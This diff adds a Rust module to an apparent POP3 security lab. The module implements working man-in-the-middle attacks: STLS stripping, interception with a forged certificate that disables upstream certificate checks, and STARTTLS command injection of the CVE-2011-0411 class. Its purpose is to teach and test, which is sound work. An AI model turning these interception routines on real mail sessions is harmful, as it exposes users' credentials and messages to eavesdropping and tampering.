@@ -1,0 +1,456 @@
+//! The active attacker: what the tap does when it stops only watching.
+//!
+//! Each attack is an [`Intercept`] on the tap that drives the tap's one
+//! relay loop ([`relay`]) with a [`Transform`] of its own, so every byte
+//! still crosses in one place and is reported as it crossed the client's
+//! side of the wire; what the attacker changed is reported beside it as
+//! [`AttackNote`]s.
+//!
+//! - **strip STLS**: takes `STLS` out of the CAPA reply and answers a
+//!   blind `STLS` with `-ERR` itself, so a client that uses TLS "if
+//!   offered" carries on in cleartext.
+//! - **forged certificate**: lets the cleartext part pass, then ends the
+//!   client's TLS with a certificate from its own CA ([`Forger`]) and opens
+//!   its own TLS to the real server, reading everything in between.
+//! - **injection** (the CVE-2011-0411 class): appends a command to the
+//!   client's `STLS` packet and a forged reply to the server's `+OK`; only a
+//!   server or client that keeps bytes buffered across the switch to TLS
+//!   acts on them.
+//! - **stolen keys** needs no transform: the tap records as always, and the
+//!   lab decrypts the recording with the leaked key log.
+//!
+//! Attacks touch only the lab's own parts, or the proxy a user started on
+//! an address they gave.
+
+use std::collections::VecDeque;
+use std::sync::Arc;
+
+use serde::Serialize;
+use tokio::io::AsyncWriteExt;
+use tokio::net::TcpStream;
+use tokio_rustls::{LazyConfigAcceptor, TlsConnector};
+
+use crate::pop3::command::Command;
+use crate::tls::forge::{ATTACKER_CA_NAME, Forger};
+use crate::wire::Direction;
+use crate::wire::tap::{
+    AttackNote, Edit, Intercept, Pass, Recorded, Relayed, Report, Transform, Wire, relay,
+};
+
+/// The attacks, as `--attack` names them.
+#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, Serialize, clap::ValueEnum)]
+#[serde(rename_all = "kebab-case")]
+pub enum Attack {
+    /// Remove STLS from CAPA and refuse STLS, keeping the session in
+    /// cleartext.
+    StripStls,
+    /// Present the attacker's own certificate and read the session.
+    ForgeCert,
+    /// Append a command to the client's STLS and a forged reply to the
+    /// server's +OK (STARTTLS injection).
+    Inject,
+    /// Decrypt the recorded TLS with the session's leaked key log.
+    StealKeys,
+    /// Guess the password offline from a recorded APOP login.
+    Crack,
+}
+
+impl Attack {
+    /// Every attack, in the order menus list them.
+    pub const ALL: [Attack; 5] = [
+        Attack::StripStls,
+        Attack::ForgeCert,
+        Attack::Inject,
+        Attack::StealKeys,
+        Attack::Crack,
+    ];
+
+    /// The name on the command line and in JSON.
+    pub fn name(self) -> &'static str {
+        match self {
+            Attack::StripStls => "strip-stls",
+            Attack::ForgeCert => "forge-cert",
+            Attack::Inject => "inject",
+            Attack::StealKeys => "steal-keys",
+            Attack::Crack => "crack",
+        }
+    }
+
+    /// True for attacks that change bytes on the wire (and so need the
+    /// tap to intercept); the others only read what the tap recorded.
+    pub fn is_active(self) -> bool {
+        matches!(self, Attack::StripStls | Attack::ForgeCert | Attack::Inject)
+    }
+}
+
+/// The command the injection attack appends to the client's `STLS`. QUIT
+/// is chosen because its effect cannot be missed: a server that runs it
+/// inside TLS ends the victim's session, one that discards it goes on.
+pub const INJECTED_COMMAND: &str = "QUIT\r\n";
+
+/// The reply the injection attack appends to the server's `+OK` to STLS:
+/// a whole CAPA answer, since the client's first command inside TLS is
+/// CAPA. A client that keeps it reads capabilities the server never sent.
+pub const FORGED_REPLY: &str = "+OK capabilities (forged by the attacker)\r\nUSER\r\n.\r\n";
+
+/// The words in a forged reply that show a client took it.
+pub const FORGED_MARK: &str = "forged by the attacker";
+
+/// The answer the stripping attacker gives to a blind `STLS`.
+const STRIP_ANSWER: &str = "-ERR command not recognized";
+
+/// The longest line the attacker waits to complete; a longer one is
+/// passed on as it is (the attacker cannot edit what it cannot parse).
+const MAX_LINE: usize = 8 * 1024;
+
+/// An attacker on the tap.
+pub struct Attacker {
+    attack: Attack,
+    /// The certificates for [`Attack::ForgeCert`].
+    forger: Option<Forger>,
+    /// True when clients speak TLS from the first byte (POP3S).
+    implicit_tls: bool,
+}
+
+impl Attacker {
+    /// An attacker for `attack` on a tap whose clients use implicit TLS
+    /// (`implicit_tls`) or a cleartext start. Fails only when the
+    /// attacker's CA cannot be made.
+    pub fn new(attack: Attack, implicit_tls: bool) -> Result<Attacker, crate::tls::TlsError> {
+        let forger = match attack {
+            Attack::ForgeCert => Some(Forger::new()?),
+            _ => None,
+        };
+        Ok(Attacker {
+            attack,
+            forger,
+            implicit_tls,
+        })
+    }
+
+    /// The attack.
+    pub fn attack(&self) -> Attack {
+        self.attack
+    }
+}
+
+impl Intercept for Attacker {
+    fn run(
+        self: Arc<Self>,
+        wire: Wire,
+        client: TcpStream,
+        server: TcpStream,
+    ) -> std::pin::Pin<Box<dyn std::future::Future<Output = ()> + Send>> {
+        Box::pin(async move {
+            let (mut client, mut server) = (client, server);
+            match self.attack {
+                Attack::StripStls | Attack::Inject => {
+                    let mut t = LineAttack::new(self.attack);
+                    relay(&wire, &mut client, &mut server, &mut t, Report::Wire).await;
+                }
+                Attack::ForgeCert => {
+                    if !self.implicit_tls {
+                        let mut t = LineAttack::new(Attack::ForgeCert);
+                        let end =
+                            relay(&wire, &mut client, &mut server, &mut t, Report::Wire).await;
+                        if end == Relayed::Done {
+                            return;
+                        }
+                    }
+                    if let Some(forger) = &self.forger {
+                        man_in_the_middle(&wire, forger, client, server).await;
+                    }
+                }
+                Attack::StealKeys | Attack::Crack => {
+                    relay(&wire, &mut client, &mut server, &mut Pass, Report::Wire).await;
+                }
+            }
+        })
+    }
+}
+
+/// End the client's TLS with a forged certificate, open TLS to the server,
+/// and relay the plaintext between them, reading it.
+async fn man_in_the_middle(wire: &Wire, forger: &Forger, client: TcpStream, server: TcpStream) {
+    let both_closed = |reason: &str| {
+        wire.closed(Direction::ClientToServer, reason.to_string());
+        wire.closed(Direction::ServerToClient, reason.to_string());
+    };
+    let recorded = Recorded::new(client, wire.clone());
+    let start = match LazyConfigAcceptor::new(rustls::server::Acceptor::default(), recorded).await {
+        Ok(start) => start,
+        Err(e) => {
+            wire.note(AttackNote::ClientRefused {
+                reason: format!("no TLS ClientHello: {e}"),
+            });
+            both_closed("the attacker gave up");
+            return;
+        }
+    };
+    // Mirror the name the client asked for, so the forged certificate
+    // fits it; a client that sent no SNI (an IP address) gets localhost.
+    let name = start
+        .client_hello()
+        .server_name()
+        .unwrap_or("localhost")
+        .to_string();
+    let config = match forger.config_for(&name) {
+        Ok(c) => c,
+        Err(e) => {
+            wire.note(AttackNote::UpstreamFailed {
+                reason: format!("could not make a certificate for {name}: {e}"),
+            });
+            both_closed("the attacker gave up");
+            return;
+        }
+    };
+    // The attacker's own TLS to the real server first: it does not care
+    // who the server is, so it accepts any certificate.
+    let upstream = async {
+        let config = crate::tls::client_config(&crate::tls::Trust::InsecureAcceptAny, false)
+            .map_err(|e| e.to_string())?;
+        let server_name =
+            rustls_pki_types::ServerName::try_from(name.clone()).map_err(|e| e.to_string())?;
+        TlsConnector::from(config)
+            .connect(server_name, server)
+            .await
+            .map_err(|e| e.to_string())
+    };
+    let mut server_tls = match upstream.await {
+        Ok(s) => s,
+        Err(reason) => {
+            wire.note(AttackNote::UpstreamFailed { reason });
+            both_closed("the attacker gave up");
+            return;
+        }
+    };
+    {
+        let conn = server_tls.get_ref().1;
+        let summary = crate::tls::SessionSummary::of_client(conn);
+        wire.note(AttackNote::UpstreamTls {
+            version: summary.version.clone(),
+            suite: summary.suite.clone(),
+        });
+    }
+    wire.note(AttackNote::Presented {
+        name: name.clone(),
+        issuer: ATTACKER_CA_NAME.to_string(),
+    });
+    let mut client_tls = match start.into_stream(config).await {
+        Ok(s) => s,
+        Err(e) => {
+            wire.note(AttackNote::ClientRefused {
+                reason: refusal(&e),
+            });
+            let _ = server_tls.shutdown().await;
+            both_closed("the client refused the attacker's certificate");
+            return;
+        }
+    };
+    relay(
+        wire,
+        &mut client_tls,
+        &mut server_tls,
+        &mut Pass,
+        Report::Plaintext,
+    )
+    .await;
+}
+
+/// Why a client's handshake with the attacker failed, in words: most often
+/// the alert it sent about the certificate.
+fn refusal(e: &std::io::Error) -> String {
+    if let Some(rustls::Error::AlertReceived(alert)) = e
+        .get_ref()
+        .and_then(|inner| inner.downcast_ref::<rustls::Error>())
+        && let Some(words) = crate::tls::refused_certificate(*alert)
+    {
+        return words;
+    }
+    e.to_string()
+}
+
+/// The line-level attacks on the cleartext part of a POP3 session:
+/// stripping STLS, injection, and watching for the STLS switch before a
+/// forged-certificate takeover.
+struct LineAttack {
+    attack: Attack,
+    /// Partial lines per direction (client→server first).
+    carry: [Vec<u8>; 2],
+    /// The commands the server has yet to answer, oldest first.
+    pending: VecDeque<Pending>,
+    /// The server's reply being read: inside a multi-line body.
+    in_body: Option<Body>,
+    /// Bytes are no longer POP3 lines (TLS began, or the client spoke TLS
+    /// from the first byte): everything passes as it is.
+    raw: bool,
+    /// The greeting has been seen.
+    greeted: bool,
+}
+
+#[derive(Debug, Clone, Copy, PartialEq, Eq)]
+enum Pending {
+    Capa,
+    Stls,
+    Multi,
+    Line,
+}
+
+#[derive(Debug, Clone, Copy, PartialEq, Eq)]
+enum Body {
+    Capa,
+    Other,
+}
+
+impl LineAttack {
+    fn new(attack: Attack) -> Self {
+        LineAttack {
+            attack,
+            carry: [Vec::new(), Vec::new()],
+            pending: VecDeque::new(),
+            in_body: None,
+            raw: false,
+            greeted: false,
+        }
+    }
+
+    fn client_line(&mut self, line: &[u8], edit: &mut Edit) {
+        let text = trim_eol(line);
+        let command = Command::parse(text).ok();
+        match (&command, self.attack) {
+            (Some(Command::Stls), Attack::StripStls) => {
+                edit.answer.extend_from_slice(STRIP_ANSWER.as_bytes());
+                edit.answer.extend_from_slice(b"\r\n");
+                edit.notes.push(AttackNote::Answered {
+                    line: lossy(text),
+                    answer: STRIP_ANSWER.into(),
+                });
+                return;
+            }
+            (Some(Command::Stls), Attack::Inject) => {
+                edit.forward.extend_from_slice(line);
+                edit.forward.extend_from_slice(INJECTED_COMMAND.as_bytes());
+                edit.notes.push(AttackNote::Injected {
+                    dir: Direction::ClientToServer,
+                    text: INJECTED_COMMAND.trim_end().into(),
+                });
+                self.pending.push_back(Pending::Stls);
+                return;
+            }
+            _ => {}
+        }
+        edit.forward.extend_from_slice(line);
+        self.pending.push_back(match &command {
+            Some(Command::Capa) => Pending::Capa,
+            Some(Command::Stls) => Pending::Stls,
+            Some(c) if c.multiline_reply() => Pending::Multi,
+            _ => Pending::Line,
+        });
+    }
+
+    fn server_line(&mut self, line: &[u8], edit: &mut Edit) {
+        let text = trim_eol(line);
+        if let Some(body) = self.in_body {
+            if text == b"." {
+                self.in_body = None;
+            } else if body == Body::Capa
+                && self.attack == Attack::StripStls
+                && text.eq_ignore_ascii_case(b"STLS")
+            {
+                edit.notes.push(AttackNote::Removed {
+                    dir: Direction::ServerToClient,
+                    line: lossy(text),
+                    what: "STLS in the CAPA reply".into(),
+                });
+                return;
+            }
+            edit.forward.extend_from_slice(line);
+            return;
+        }
+        edit.forward.extend_from_slice(line);
+        if !self.greeted {
+            self.greeted = true;
+            return;
+        }
+        let ok = text.starts_with(b"+OK");
+        match self.pending.pop_front() {
+            Some(Pending::Capa) if ok => self.in_body = Some(Body::Capa),
+            Some(Pending::Multi) if ok => self.in_body = Some(Body::Other),
+            Some(Pending::Stls) if ok => {
+                // From here on the bytes are TLS.
+                self.raw = true;
+                match self.attack {
+                    Attack::Inject => {
+                        edit.forward.extend_from_slice(FORGED_REPLY.as_bytes());
+                        edit.notes.push(AttackNote::Injected {
+                            dir: Direction::ServerToClient,
+                            text: FORGED_REPLY.trim_end().replace("\r\n", " ⏎ "),
+                        });
+                    }
+                    Attack::ForgeCert => edit.hand_over = true,
+                    _ => {}
+                }
+            }
+            _ => {}
+        }
+    }
+}
+
+impl Transform for LineAttack {
+    fn chunk(&mut self, dir: Direction, bytes: &[u8], edit: &mut Edit) {
+        if self.raw {
+            edit.forward.extend_from_slice(bytes);
+            return;
+        }
+        // A client that opens with a TLS record speaks TLS from the first
+        // byte: there is nothing in cleartext to edit.
+        if dir == Direction::ClientToServer
+            && self.carry[0].is_empty()
+            && bytes.first() == Some(&0x16)
+        {
+            self.raw = true;
+            edit.forward.extend_from_slice(bytes);
+            return;
+        }
+        let slot = match dir {
+            Direction::ClientToServer => 0,
+            Direction::ServerToClient => 1,
+        };
+        let mut data = std::mem::take(&mut self.carry[slot]);
+        data.extend_from_slice(bytes);
+        let mut start = 0;
+        while let Some(lf) = memchr::memchr(b'\n', &data[start..]) {
+            let line = &data[start..start + lf + 1];
+            start += lf + 1;
+            if self.raw {
+                edit.forward.extend_from_slice(line);
+                continue;
+            }
+            match dir {
+                Direction::ClientToServer => self.client_line(line, edit),
+                Direction::ServerToClient => self.server_line(line, edit),
+            }
+            if edit.hand_over {
+                // Nothing should follow +OK before the handshake; if
+                // something did, it belongs to the TLS that follows.
+                edit.forward.extend_from_slice(&data[start..]);
+                return;
+            }
+        }
+        let rest = &data[start..];
+        if self.raw || rest.len() > MAX_LINE {
+            edit.forward.extend_from_slice(rest);
+        } else {
+            self.carry[slot] = rest.to_vec();
+        }
+    }
+}
+
+fn trim_eol(line: &[u8]) -> &[u8] {
+    let line = line.strip_suffix(b"\n").unwrap_or(line);
+    line.strip_suffix(b"\r").unwrap_or(line)
+}
+
+fn lossy(bytes: &[u8]) -> String {
+    String::from_utf8_lossy(bytes).into_owned()
+}
